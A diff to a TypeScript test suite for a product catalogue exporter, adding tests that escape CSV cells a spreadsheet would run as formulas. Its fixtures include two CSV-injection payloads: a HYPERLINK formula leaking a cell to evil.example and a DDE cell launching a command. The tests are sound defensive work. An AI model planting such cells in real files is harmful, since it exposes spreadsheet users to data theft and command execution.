@@ -158,12 +158,94 @@ describe("writeCatalogueFile and readCatalogueFile", () => {
   });
 });
 
+/** What a spreadsheet opening a CSV file takes as the start of a formula (OWASP: CSV injection). */
+const FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"];
+
+/** Every product cell of a CSV file (the header left out). */
+function productCells(text: string): string[] {
+  return (parseCsv(text) as string[][]).slice(1).flat();
+}
+
+describe("CSV cells a spreadsheet would run as formulas", () => {
+  /** A security review's two cells (docs/catalogue.md#formulas-in-a-spreadsheet), as a supplier's feed could carry them. */
+  const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Datasheet")';
+  const COMMAND = "+cmd|' /C calc'!A0";
+  const fed: CatalogueRecord = { ...amplifier, name: HYPERLINK, description: COMMAND };
+
+  it("writes the review's cells with a ' in front, and reads them back as they were", () => {
+    const text = writeCatalogueFile([fed], "csv");
+    expect(cellsOf(fed)).toMatchObject({ name: `'${HYPERLINK}`, description: `'${COMMAND}` });
+    expect(read(text, "csv")).toEqual({ records: [fed], problems: [] });
+    expect(writeCatalogueFile(read(text, "csv").records, "csv")).toBe(text);
+  });
+
+  it.each([
+    ["=1+1", "'=1+1"],
+    ["+44 20 7946 0000 adapter", "'+44 20 7946 0000 adapter"],
+    ["-5", "'-5"],
+    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
+    ["'=1+1", "''=1+1"],
+    ["'Quoted' cable", "''Quoted' cable"],
+    ["'", "''"],
+    ["Plain", "Plain"],
+    [" =1+1", " =1+1"],
+    ["1-2-3", "1-2-3"],
+  ])("writes the name %j as the cell %j, and reads it back", (name, cell) => {
+    const record = { ...amplifier, name };
+    expect(cellsOf(record).name).toBe(cell);
+    expect(read(writeCatalogueFile([record], "csv"), "csv").records).toEqual([record]);
+  });
+
+  it("escapes a description starting with a tab or a carriage return (not a line feed), which a name may not hold", () => {
+    for (const description of ["\tIndented", "\r\nAfter a blank line", "\nAfter a blank line"]) {
+      const record = { ...amplifier, description };
+      const escaped = description.startsWith("\n") ? description : `'${description}`;
+      expect(cellsOf(record).description, JSON.stringify(description)).toBe(escaped);
+      expect(read(writeCatalogueFile([record], "csv"), "csv").records).toEqual([record]);
+    }
+  });
+
+  it("writes numbers as numbers, and JSON cells as JSON, never escaped", () => {
+    const record = { ...newProduct, price: 0, features: ["=1+1"], specifications: { "-": "@" } };
+    const cells = cellsOf(record);
+    expect(cells).toMatchObject({
+      price: "0",
+      stock_count: "2147483647",
+      features: '["=1+1"]',
+      specifications: '{"-":"@"}',
+    });
+    expect(read(writeCatalogueFile([record], "csv"), "csv").records).toEqual([record]);
+  });
+
+  it("takes one ' off a cell only before a formula's first character or another '", () => {
+    const cells = cellsOf(amplifier);
+    const named = (name: string) => read(csvFile([{ ...cells, name }]), "csv").records[0]?.name;
+    expect(named("'=1+1")).toBe("=1+1");
+    expect(named("''=1+1")).toBe("'=1+1");
+    expect(named("'''")).toBe("''");
+    expect(named("'Quoted' cable")).toBe("'Quoted' cable");
+    expect(named("=1+1")).toBe("=1+1");
+  });
+
+  it("leaves JSON alone: a spreadsheet does not open it", () => {
+    const text = writeCatalogueFile([fed], "json");
+    expect(text).toContain(`"name": ${JSON.stringify(HYPERLINK)}`);
+    expect(read(text, "json").records).toEqual([fed]);
+  });
+});
+
 /** Text the rules allow: any characters but control characters (a description keeps tabs and line breaks). */
 function allowedText(maxLength: number, multiline = false) {
   const keep = (c: string) => c.codePointAt(0)! >= 0x20 || (multiline && "\t\n\r".includes(c));
   const tricky = fc.constantFrom(",", '"', "'", ";", "\n", "\r", "\t", "Ω", "°C", "%", "_", "\\", "{", "[", " ", "a");
+  // What a spreadsheet takes as a formula, and the ' that escapes it, in front of any text.
+  const formulaStart = fc.string({ unit: fc.constantFrom(...FORMULA_STARTS, "'"), minLength: 1, maxLength: 3 });
+  const body = fc.oneof(fc.string({ unit: "binary", maxLength }), fc.string({ unit: tricky, maxLength }));
   return fc
-    .oneof(fc.string({ unit: "binary", maxLength }), fc.string({ unit: tricky, maxLength }))
+    .oneof(
+      body,
+      fc.tuple(formulaStart, body).map(([start, rest]) => start + rest),
+    )
     .map((text) => [...text].filter(keep).join(""))
     .filter((text) => text.trim() !== "");
 }
@@ -224,6 +306,19 @@ describe("the round trip, for any valid records", () => {
         expect(back.problems).toEqual([]);
         expect(back.records).toEqual(records);
         expect(writeCatalogueFile(back.records, format)).toBe(text);
+      }),
+      { numRuns: 200 },
+    );
+  });
+});
+
+describe("the CSV, for any valid records", () => {
+  it("has no cell a spreadsheet would run as a formula", () => {
+    fc.assert(
+      fc.property(validRecords, (records) => {
+        for (const cell of productCells(writeCatalogueFile(records, "csv"))) {
+          expect(FORMULA_STARTS, JSON.stringify(cell)).not.toContain(cell.charAt(0));
+        }
       }),
       { numRuns: 200 },
     );
